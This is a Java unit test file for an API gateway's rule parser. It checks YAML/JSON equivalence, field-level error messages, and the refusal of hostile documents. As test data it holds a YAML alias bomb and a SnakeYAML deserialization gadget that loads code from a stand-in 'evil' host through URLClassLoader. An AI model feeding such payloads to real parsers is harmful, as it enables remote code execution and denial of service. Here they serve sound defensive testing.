package dev.gatehouse.gateway.rule;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class RuleDocumentsTest {

    static final String YAML = """
            - id: r1
              upstream: {url: "http://backend:8080", preserve_host: true, strip_path: /api}
              match: {url: "http://api.test/api/<.*>", methods: [get, POST]}
              authenticators: [{handler: jwt, config: {jwks_urls: ["http://keys/jwks.json"]}}]
              authorizer: {handler: allow}
              mutators: [{handler: header, config: {headers: {X-User: "{{ print .Subject }}"}}}]
            """;

    @Test
    void parseWhenYamlThenSameRuleAsJson() {
        Rule r = RuleDocuments.parse(RuleDocuments.Format.YAML, YAML).get(0);

        assertEquals(List.of("GET", "POST"), r.methods());
        assertTrue(r.upstream().preserveHost());
        assertEquals("/api", r.upstream().stripPath());
        assertEquals(r, RuleDocuments.parse(RuleDocuments.Format.JSON, "[" + r.toJson() + "]").get(0));
    }

    @Test
    void parseWhenYamlUsesAliasBombOrCustomTagThenRefused() {
        String bomb = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
                + "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]";

        InvalidRuleException aliases = assertThrows(InvalidRuleException.class, () -> RuleDocuments.parse(RuleDocuments.Format.YAML, bomb));
        InvalidRuleException tag = assertThrows(InvalidRuleException.class, () -> RuleDocuments.parse(RuleDocuments.Format.YAML,
                "- !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]"));

        assertEquals("document", aliases.field());
        assertEquals("document", tag.field());
    }

    @Test
    void parseWhenFieldsMissingOrUnknownThenFieldNamed() {
        InvalidRuleException noMatch = assertThrows(InvalidRuleException.class,
                () -> RuleDocuments.parse(RuleDocuments.Format.JSON, "[{\"id\":\"x\"}]"));
        InvalidRuleException extra = assertThrows(InvalidRuleException.class,
                () -> RuleDocuments.parse(RuleDocuments.Format.JSON, "[{\"id\":\"x\",\"matches\":{}}]"));
        InvalidRuleException noAuthn = assertThrows(InvalidRuleException.class, () -> RuleDocuments.parse(RuleDocuments.Format.JSON,
                "[{\"id\":\"x\",\"match\":{\"url\":\"http://a/\",\"methods\":[\"GET\"]},\"authorizer\":{\"handler\":\"allow\"},"
                        + "\"mutators\":[{\"handler\":\"noop\"}]}]"));

        assertEquals("rule x: match", noMatch.field());
        assertEquals("matches", extra.field());
        assertEquals("rule x: authenticators", noAuthn.field());
    }

    @Test
    void parseWhenNotJsonThenDocumentRefused() {
        InvalidRuleException e = assertThrows(InvalidRuleException.class, () -> RuleDocuments.parse(RuleDocuments.Format.JSON, "[{"));

        assertEquals("document", e.field());
    }

    @Test
    void parseWhenJsonDeepOrWithHugeNumberThenDocumentRefusedNotParserError() {
        InvalidRuleException deep = assertThrows(InvalidRuleException.class,
                () -> RuleDocuments.parse(RuleDocuments.Format.JSON, "[".repeat(5_000) + "]".repeat(5_000)));
        InvalidRuleException number = assertThrows(InvalidRuleException.class,
                () -> RuleDocuments.parse(RuleDocuments.Format.JSON, "{\"id\":" + "1".repeat(1_200) + "}"));

        assertEquals("document", deep.field());
        assertEquals("is nested more than 32 levels deep", deep.reason());
        assertEquals("document", number.field());
        assertEquals("has a number longer than 100 characters", number.reason());
    }

    @Test
    void parseWhenYamlNumberNotFiniteThenDocumentRefused() {
        for (String yaml : new String[] {"- {id: .inf}", "- {id: -.Inf}", "- {id: .nan}", "- {id: 1e999999}"}) {
            InvalidRuleException e = assertThrows(InvalidRuleException.class, () -> RuleDocuments.parse(RuleDocuments.Format.YAML, yaml), yaml);
            assertEquals("document", e.field(), yaml);
        }
    }
}
